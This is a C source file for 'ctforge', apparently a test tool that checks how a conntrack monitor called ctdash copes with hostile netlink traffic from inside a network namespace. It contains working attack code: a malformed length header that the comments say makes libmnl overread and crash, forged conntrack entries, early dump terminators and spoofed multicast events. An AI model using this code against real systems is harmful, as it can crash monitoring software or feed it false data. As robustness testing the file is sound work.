/* SPDX-License-Identifier: GPL-2.0-or-later */
/* ctforge: what a hostile neighbour in a watched namespace can do to
 * ctdash's netlink socket. Any process with CAP_NET_ADMIN there (a
 * container's own root) may send datagrams to a netlink port, and
 * ctdash's port is its pid. ctforge sends three kinds, in turn:
 *   - a header whose nlmsg_len has the top bit set (libmnl's int compare
 *     lets it through and the walk runs 2 GiB past the buffer);
 *   - a well-formed conntrack entry from 127.66.66.66 (a fake entry);
 *   - NLMSG_DONE (ends a dump early, so counts come out short).
 *
 *   ctforge self           open ctdash's own netlink connection, forge
 *                          at it before and while it dumps the table, and
 *                          print the dump's entry count
 *   ctforge pid PID SECS   forge at port PID until that process exits
 *                          (or SECS pass)
 *   ctforge events SECS    for SECS seconds, send fake new-entry events
 *                          from 127.66.66.66 to the conntrack event groups
 *                          (what ctdash's event socket listens to)
 * Both print "delivered=N refused=M": delivered counts datagrams the
 * kernel queued to the target, refused the ones it turned away.
 * Run it inside the namespace: ip netns exec NS ctforge self */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_conntrack.h>
#include <linux/netlink.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/parse.h"
#include "collect/dump_counts.h"
#include "collect/nlconn.h"
#include "collect/topsrc.h"

struct forger {
	int fd;
	unsigned long delivered, refused;
	unsigned turn;
};

static size_t put_attr(uint8_t *p, uint16_t type, const void *data, uint16_t len)
{
	struct nlattr a = { .nla_len = (uint16_t)(NLA_HDRLEN + len), .nla_type = type };
	memcpy(p, &a, sizeof a);
	memcpy(p + NLA_HDRLEN, data, len);
	return NLA_ALIGN(a.nla_len);
}

static size_t put_nest(uint8_t *p, uint16_t type, size_t inner)
{
	struct nlattr a = { .nla_len = (uint16_t)(NLA_HDRLEN + inner), .nla_type = type | NLA_F_NESTED };
	memcpy(p, &a, sizeof a);
	return NLA_HDRLEN + inner;
}

/* A CT_NEW message as the kernel sends one, for a flow that never was. */
static size_t fake_entry(uint8_t *buf)
{
	struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
	struct nfgenmsg g = { .nfgen_family = AF_INET, .version = NFNETLINK_V0 };
	memcpy(buf + NLMSG_HDRLEN, &g, sizeof g);
	size_t off = NLMSG_HDRLEN + NLMSG_ALIGN(sizeof g);
	uint8_t ip[64], tuple[128];
	uint32_t src = htonl(0x7f424242), dst = htonl(0x7f000001);
	size_t ipl = put_attr(ip, CTA_IP_V4_SRC, &src, 4);
	ipl += put_attr(ip + ipl, CTA_IP_V4_DST, &dst, 4);
	size_t tl = put_nest(tuple, CTA_TUPLE_IP, ipl);
	memcpy(tuple + NLA_HDRLEN, ip, ipl);
	uint8_t proto[16];
	uint8_t tcp = IPPROTO_TCP;
	size_t pl = put_attr(proto, CTA_PROTO_NUM, &tcp, 1);
	tl += put_nest(tuple + tl, CTA_TUPLE_PROTO, pl);
	memcpy(tuple + tl - pl, proto, pl);
	off += put_nest(buf + off, CTA_TUPLE_ORIG, tl);
	memcpy(buf + off - tl, tuple, tl);
	uint32_t status = htonl(0x0e), timeout = htonl(431999), id = htonl(0x66666666);
	off += put_attr(buf + off, CTA_ID, &id, 4);
	off += put_attr(buf + off, CTA_STATUS, &status, 4);
	off += put_attr(buf + off, CTA_TIMEOUT, &timeout, 4);
	nlh->nlmsg_len = (uint32_t)off;
	nlh->nlmsg_type = (NFNL_SUBSYS_CTNETLINK << 8) | IPCTNL_MSG_CT_NEW;
	nlh->nlmsg_flags = NLM_F_MULTI;
	return off;
}

static void forge_once(struct forger *f, unsigned port)
{
	uint8_t buf[512] = { 0 };
	struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
	size_t len;
	switch (f->turn++ % 3) {
	case 0: /* the crash: a length libmnl reads as negative */
		nlh->nlmsg_len = 0x80000000u | 20;
		nlh->nlmsg_type = (NFNL_SUBSYS_CTNETLINK << 8) | IPCTNL_MSG_CT_NEW;
		nlh->nlmsg_flags = NLM_F_MULTI;
		len = 20;
		break;
	case 1:
		len = fake_entry(buf);
		break;
	default:
		nlh->nlmsg_len = NLMSG_HDRLEN + 4;
		nlh->nlmsg_type = NLMSG_DONE;
		nlh->nlmsg_flags = NLM_F_MULTI;
		len = nlh->nlmsg_len;
		break;
	}
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port };
	if (sendto(f->fd, buf, len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) >= 0)
		f->delivered++;
	else
		f->refused++;
}

static bool tick_forge(void *arg)
{
	void **a = arg;
	struct forger *f = a[0];
	const struct nlconn *c = a[1];
	forge_once(f, c->portid);
	return true;
}

static int run_self(struct forger *f)
{
	struct nlconn c = { 0 };
	int ret = nlconn_open(&c);
	if (ret < 0) {
		fprintf(stderr, "ctforge: netlink: %s\n", strerror(-ret));
		return 1;
	}
	/* queued before the request, as a racing neighbour's would be */
	for (int i = 0; i < 3; i++)
		forge_once(f, c.portid);
	struct ct_tally t;
	struct ct_tops tops;
	ct_tops_init(&tops);
	void *arg[2] = { f, &c };
	ret = ct_dump(&c, &t, &tops, tick_forge, arg);
	printf("delivered=%lu refused=%lu dump=%d entries=%llu malformed=%llu foreign=%llu\n",
	       f->delivered, f->refused, ret, (unsigned long long)t.entries,
	       (unsigned long long)t.malformed, (unsigned long long)c.foreign);
	ct_tops_free(&tops);
	nlconn_close(&c);
	return ret < 0 ? 1 : 0;
}

static int run_pid(struct forger *f, unsigned pid, unsigned seconds)
{
	double end = mono_ms() + seconds * 1000.0;
	while (kill((pid_t)pid, 0) == 0 && mono_ms() < end) {
		forge_once(f, pid);
		if (f->turn % 64 == 0)
			usleep(200);
	}
	printf("delivered=%lu refused=%lu\n", f->delivered, f->refused);
	return 0;
}

/* A new-entry event, as the kernel multicasts one, sent to the groups:
 * the kernel lets anyone with CAP_NET_ADMIN in the namespace do so. */
static int run_events(struct forger *f, unsigned seconds)
{
	double end = mono_ms() + seconds * 1000.0;
	unsigned n = 0;
	while (mono_ms() < end) {
		uint8_t buf[512] = { 0 };
		size_t len = fake_entry(buf);
		struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
		nlh->nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL;
		struct sockaddr_nl to = {
			.nl_family = AF_NETLINK,
			.nl_groups = 1u << (NFNLGRP_CONNTRACK_NEW - 1),
		};
		if (sendto(f->fd, buf, len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) >= 0)
			f->delivered++;
		else
			f->refused++;
		if (++n % 16 == 0)
			usleep(10000);
	}
	printf("delivered=%lu refused=%lu\n", f->delivered, f->refused);
	return 0;
}

int main(int argc, char **argv)
{
	struct forger f = { .fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER) };
	if (f.fd < 0) {
		perror("ctforge: socket");
		return 1;
	}
	uint64_t pid, secs;
	if (argc == 2 && strcmp(argv[1], "self") == 0)
		return run_self(&f);
	if (argc == 4 && strcmp(argv[1], "pid") == 0 && parse_uint(argv[2], UINT32_MAX, &pid) &&
	    pid > 0 && parse_uint(argv[3], 3600, &secs))
		return run_pid(&f, (unsigned)pid, (unsigned)secs);
	if (argc == 3 && strcmp(argv[1], "events") == 0 && parse_uint(argv[2], 3600, &secs))
		return run_events(&f, (unsigned)secs);
	fprintf(stderr, "Usage: ctforge self | ctforge pid PID SECONDS | ctforge events SECONDS\n");
	return 2;
}
